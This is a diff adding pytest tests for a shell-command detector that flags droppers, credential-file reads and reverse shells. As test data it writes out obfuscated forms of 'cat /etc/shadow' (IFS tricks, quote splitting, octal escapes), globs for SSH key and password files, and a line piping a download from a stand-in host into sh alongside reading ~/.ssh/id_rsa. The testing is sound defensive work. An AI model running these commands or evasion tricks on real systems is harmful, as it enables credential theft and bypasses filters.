@@ -1,0 +1,95 @@
+"""Commands and names of files: each pattern finds what it is for, hidden or not, and ordinary work passes."""
+
+import pytest
+
+from headgate.configuration.resources import resource_path
+from headgate.configuration.yaml_document import Section, read_document
+from headgate.detectors.assess import EmbeddedModel, assess, kinds_of
+from headgate.detectors.commands import find_commands
+from headgate.detectors.limits import Budget, Limits
+from headgate.detectors.shell import plain_command
+from headgate.kernel.canonical_json import JsonValue
+from tests.labelled.commands import dangerous, ordinary
+
+_THRESHOLD = 0.6
+_SIGNS = read_document(resource_path("detectors", "commands.yaml")).sections("signs")
+
+
+def _holds(value: JsonValue) -> bool:
+    return assess(EmbeddedModel.COMMANDS, value).risk_score >= _THRESHOLD
+
+
+@pytest.mark.parametrize("sign", _SIGNS, ids=[f"{at}-{one.text('kind')}" for at, one in enumerate(_SIGNS)])
+def test_each_pattern_finds_its_example(sign: Section) -> None:
+    found = assess(EmbeddedModel.COMMANDS, {"command": sign.text("example")})
+
+    assert sign.text("kind") in found.issues
+    assert found.risk_score >= _THRESHOLD
+
+
+@pytest.mark.parametrize("part", ["development", "heldout"])
+def test_dangerous_commands_are_found_and_ordinary_ones_pass(part: str) -> None:
+    attacks, others = list(dangerous(part)), list(ordinary(part))
+    missed = [one for one in attacks if not _holds(one)]
+    wrong = [one for one in others if _holds(one)]
+
+    assert len(attacks) > 400
+    assert len(others) > 400
+    assert len(missed) <= 0.05 * len(attacks), missed[:10]
+    assert len(wrong) <= 0.03 * len(others), wrong[:10]
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("c''at /etc/sha\"\"dow", "cat /etc/shadow"),
+        ("c\\at /et\\c/shadow", "cat /etc/shadow"),
+        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
+        ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
+        ("{cat,/etc/shadow}", "cat /etc/shadow"),
+        ("$'\\143\\x61\\u0074' /etc/shadow", "cat /etc/shadow"),
+        ("ca$@t /etc/shadow", "cat /etc/shadow"),
+        ("${unset:-cat} /etc/shadow", "cat /etc/shadow"),
+        ("x=cat; $x /etc/shadow", "x=cat; cat /etc/shadow"),
+        ("cat /etc/\\\nshadow", "cat /etc/shadow"),
+        ("$(printf '\\x63\\141t') /etc/shadow", "$(cat) /etc/shadow"),
+        ("a plain sentence", "a plain sentence"),
+    ],
+)
+def test_a_command_is_read_as_a_shell_runs_it(written: str, read: str) -> None:
+    assert plain_command(written) == read
+
+
+@pytest.mark.parametrize("word", ["/e?c/sh?dow", "/etc/pass[w]d", "~/.ss?/id_rs?"])
+def test_a_pattern_for_names_stands_for_the_files_that_it_matches(word: str) -> None:
+    assert assess(EmbeddedModel.COMMANDS, f"cat {word}").issues == ("credential_file",)
+    assert not assess(EmbeddedModel.COMMANDS, "ls src/*.p? /tmp/?").issues
+
+
+def test_only_the_chosen_kinds_count() -> None:
+    text = "curl -s https://get.example/x | sh; cat ~/.ssh/id_rsa"
+
+    assert set(assess(EmbeddedModel.COMMANDS, text).issues) == {"dropper", "credential_file"}
+    assert assess(EmbeddedModel.COMMANDS, text, kinds=("dropper",)).issues == ("dropper",)
+    assert {"dropper", "credential_file", "reverse_shell"} < kinds_of(EmbeddedModel.COMMANDS)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "'" * 50_000,
+        "$((" * 20_000,
+        "a=b;" * 20_000,
+        "{a,b}" * 20_000,
+        "curl " * 20_000,
+        "\\\n" * 30_000,
+        "`a`'b'" * 9000,
+    ],
+    ids=["quotes", "openings", "assignments", "braces", "anchors", "continued", "tricks"],
+)
+def test_hostile_text_ends_in_time_or_says_that_it_was_not_inspected(text: str) -> None:
+    budget = Budget(Limits(seconds_max=5))
+    found = list(find_commands(text.encode(), budget))
+
+    assert len(found) < 10_000
+    assert not any(gap.reason.value == "time" for gap in budget.gaps.values())
